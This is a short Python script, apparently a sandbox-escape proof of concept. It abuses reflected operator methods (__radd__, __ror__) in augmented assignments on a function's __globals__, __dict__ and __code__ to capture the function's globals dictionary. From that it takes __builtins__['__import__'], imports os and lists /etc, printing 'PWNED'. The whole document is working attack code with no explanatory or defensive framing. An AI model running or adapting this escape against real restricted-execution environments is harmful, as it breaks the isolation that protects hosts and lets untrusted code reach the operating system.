box = []
class Grab:
    def __radd__(self, *args):
        box.append(args)
        return 0
    def __ror__(self, other):
        box.append((other,))
        return other
def f(): return 1
for source in ("f.__globals__ += Grab()", "f.__globals__ |= Grab()", "f.__dict__ |= Grab()", "f.__code__ += Grab()"):
    try:
        exec(source)
    except Exception:
        pass
for got in box:
    try:
        importer = got[-1]["__builtins__"]["__import__"]
        print("PWNED", importer("os").listdir("/etc"))
    except Exception:
        pass
